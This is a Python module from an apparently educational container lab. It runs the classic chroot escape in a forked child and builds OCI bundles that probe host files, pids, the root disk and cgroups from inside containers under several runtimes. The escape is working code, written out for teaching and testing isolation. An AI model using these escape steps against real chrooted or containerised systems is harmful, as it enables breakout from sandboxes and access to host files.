"""The classic chroot escape, as a lab can run it safely.

``chroot(dir)`` changes only where "/" points for path lookups. It does not move the current
directory, and it leaves the rest of the host's file tree mounted. So a root process inside a
chroot that still has ``CAP_SYS_CHROOT`` can get out:

1. ``mkdir x; chroot x`` without ``chdir``: the current directory is now *outside* the root;
2. ``chdir("..")`` many times: nothing stops the walk, since the current directory is already
   outside the root, and it ends at the host's real "/";
3. ``chroot(".")``: the host's "/" is now this process's root.

A container made with ``pivot_root`` is different. The mount namespace's root *is* the image, and
the old root was unmounted (detached). Above the image's "/" there is nothing to walk to.

:func:`attempt` runs the three steps in a forked child after ``enter()`` has put it in the jail,
and reports what the child could read afterwards. Nothing here touches the host: the child
only reads one file.
"""

from __future__ import annotations

import json
import os
from collections.abc import Callable
from dataclasses import dataclass


@dataclass
class EscapeResult:
    escaped: bool  # could the child read the host-side file after the escape steps?
    detail: str  # what the child saw, in words
    root_listing: list[str]  # what "/" looked like to the child after the escape steps
    capabilities: list[str]  # the child's effective capabilities when it tried


def attempt(enter: Callable[[], None], host_file: str, scratch: str = "lk-escape") -> EscapeResult:
    """Fork; in the child run ``enter()``, then the chroot escape; try to read ``host_file``."""
    from labkit.oci import capabilities as caps
    from labkit.oci import syscalls as sc

    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        report: dict[str, object] = {}
        try:
            os.close(r)
            enter()
            eff = sc.capget()[0]
            report["caps"] = caps.names(eff)
            os.makedirs(scratch, exist_ok=True)
            os.chroot(scratch)  # step 1: root moves below us; the current directory stays put
            for _ in range(64):  # step 2: walk up past where the jail's "/" was
                os.chdir("..")
            os.chroot(".")  # step 3: make wherever we ended up the root
            report["listing"] = sorted(os.listdir("/"))[:40]
            try:
                with open(host_file) as f:
                    report["read"] = f.read()
            except OSError as exc:
                report["error"] = f"{exc.strerror}: {host_file}"
        except BaseException as exc:  # noqa: BLE001 - report, never unwind into the notebook
            report["error"] = f"{exc.__class__.__name__}: {exc}"
        finally:
            os.write(w, json.dumps(report).encode())
            os._exit(0)
    os.close(w)
    chunks = []
    while chunk := os.read(r, 65536):
        chunks.append(chunk)
    os.close(r)
    os.waitpid(pid, 0)
    rep = json.loads(b"".join(chunks) or b"{}")
    if "read" in rep:
        return EscapeResult(True, f"read {host_file}: {str(rep['read']).strip()!r}", rep.get("listing", []),
                            rep.get("caps", []))
    return EscapeResult(False, rep.get("error", "no output"), rep.get("listing", []), rep.get("caps", []))


def enter_chroot(jail: str, process: dict | None = None) -> Callable[[], None]:
    """What ``chroot jail`` does: change the root, then the current directory; with ``process``
    (a bundle's ``process`` block) also drop to that capability set, as a container would."""
    def enter() -> None:
        os.chroot(jail)
        os.chdir("/")
        if process is not None:
            from labkit.oci.native import init as cinit

            cinit._drop_capabilities(process)
    return enter


def enter_container(pid: int, process: dict | None = None) -> Callable[[], None]:
    """Step into a running container the way its own processes live: its mount namespace (whose
    root is the pivoted image) and, given the bundle's ``process``, its capability set."""
    def enter() -> None:
        from labkit.oci import syscalls as sc
        from labkit.oci.native import init as cinit

        fd = os.open(f"/proc/{pid}/ns/mnt", os.O_RDONLY)
        sc.setns(fd, sc.CLONE_NEWNS)  # also sets root and cwd to the namespace's root
        os.close(fd)
        os.chdir("/")
        if process is not None:
            cinit._drop_capabilities(process)
    return enter


# --- the escape probe: known attempts, run inside a real container ------------------------------
PROBE = os.path.join(os.path.dirname(os.path.abspath(__file__)), "escape_probe.py")
RUNTIMES = ("native", "runc", "crun")


def root_disk() -> tuple[int, int, str] | None:
    """(major, minor, file system type) of the block device the host's "/" lives on, or None
    (a root on overlay or tmpfs, as in some CI containers)."""
    found = None
    with open("/proc/self/mountinfo") as f:
        for line in f:  # the last "/" wins: it is the one on top
            fields = line.split()
            if len(fields) > 4 and fields[4] == "/":
                major, minor = (int(x) for x in fields[2].split(":"))
                found = (major, minor, fields[fields.index("-") + 1])
    if found is None or found[0] == 0:  # an anonymous device: overlay, tmpfs, btrfs subvolume ...
        return None
    return found


def host_cgroup_procs() -> str:
    """A host cgroup's ``cgroup.procs``: writing a pid there moves that process (never done here)."""
    for cand in ("/sys/fs/cgroup/cgroup.procs", "/sys/fs/cgroup/pids/cgroup.procs",
                 "/sys/fs/cgroup/memory/cgroup.procs", "/sys/fs/cgroup/unified/cgroup.procs"):
        if os.path.exists(cand):
            return cand
    raise FileNotFoundError("no cgroup file system is mounted under /sys/fs/cgroup")


def host_python() -> str:
    """The host's own python3 under /usr, which a container with the host's /usr can run."""
    import shutil
    import sys

    system = shutil.which("python3", path=os.pathsep.join(("/usr/local/bin", "/usr/bin")))
    for cand in (sys.executable, system):
        real = os.path.realpath(cand) if cand else ""
        if real.startswith("/usr/") and os.access(real, os.X_OK):
            return real
    raise FileNotFoundError("no python3 under /usr (the probe container borrows the host's /usr): "
                            "apt-get install python3")


def host_tools_rootfs(rootfs: str) -> list[dict]:
    """Make ``rootfs`` a root whose programs are the host's (read-only ``/usr``, the probe at
    ``/probe.py``) and return the OCI mounts that do it; the bundle's ``/tmp`` stays writable."""
    for d in ("usr", "tmp", "dev", "proc", "sys", "etc"):
        os.makedirs(os.path.join(rootfs, d), exist_ok=True)
    mounts = [{"destination": "/usr", "type": "bind", "source": "/usr", "options": ["rbind", "ro", "nosuid"]},
              {"destination": "/probe.py", "type": "bind", "source": PROBE, "options": ["bind", "ro"]}]
    open(os.path.join(rootfs, "probe.py"), "a").close()
    for top in ("bin", "lib", "lib64", "sbin"):
        host = "/" + top
        if os.path.islink(host):  # merged /usr: the same link inside
            link = os.path.join(rootfs, top)
            if not os.path.lexists(link):
                os.symlink(os.readlink(host), link)
        elif os.path.isdir(host):
            mounts.append({"destination": host, "type": "bind", "source": host, "options": ["rbind", "ro", "nosuid"]})
    return mounts


def probe_aim(host_file: str, host_pid: int, **extra: object) -> dict:
    """What the probe aims at on this host: a host file, a host pid, the root disk, a cgroup."""
    return {"host_file": host_file, "pid": host_pid, "disk": list(root_disk() or (8, 0, "ext4")),
            "cgroup_procs": host_cgroup_procs(), **extra}


def probe_bundle(path: str, aim: dict, cid: str, **spec_kw: object) -> str:
    """Write a bundle at ``path`` (labkit's default spec, ``spec_kw`` on top) whose process runs
    the probe against ``aim`` in a root of host tools; its path."""
    from labkit.oci import spec
    from labkit.oci.bundle import Bundle

    rootfs = os.path.join(path, "rootfs")
    mounts = host_tools_rootfs(rootfs)
    cfg = spec.make_config([host_python(), "-I", "-S", "/probe.py", json.dumps(aim)], hostname=cid,
                           cgroups_path=f"/labkit/{cid}", mounts=mounts, **spec_kw)
    return str(Bundle.create(path, cfg).path)


def run_probe(runtime: str, bundle: str, cid: str, state: str, timeout: float = 60) -> dict:
    """Run a probe bundle to its end under ``runtime`` (native, runc or crun); the probe's answer.
    ``state``: the native runtime's state folder (runc and crun keep theirs beside the bundle)."""
    import subprocess
    import tempfile

    from labkit.oci import crun

    if runtime == "native":
        from labkit.oci.native import NativeContainer

        with tempfile.TemporaryFile() as out:
            NativeContainer(bundle, cid, root=state, stdout=out.fileno(), stderr=out.fileno()).run()
            out.seek(0)
            text = out.read().decode(errors="replace")
    else:
        root = os.path.join(os.path.dirname(os.path.abspath(bundle)), f"{runtime}-root")
        argv = crun.command(runtime, ["run", "--bundle", bundle, cid], root=root)
        try:
            done = subprocess.run(argv, capture_output=True, text=True, timeout=timeout, stdin=subprocess.DEVNULL)
        finally:
            subprocess.run(crun.command(runtime, ["delete", "--force", cid], root=root), capture_output=True)
        text = done.stdout + done.stderr
    try:
        return json.loads(text.strip().splitlines()[-1])
    except (ValueError, IndexError) as exc:
        raise RuntimeError(f"the escape probe under {runtime} did not answer: {text.strip()[-500:]}") from exc


def probe_host(aim: dict) -> dict:
    """The same attempts on the host, unconfined (``host`` mode: opens and calls, no mounts)."""
    import subprocess

    done = subprocess.run([host_python(), "-I", "-S", PROBE, json.dumps({**aim, "host": True})],
                          capture_output=True, text=True, timeout=60)
    return json.loads(done.stdout.strip().splitlines()[-1])
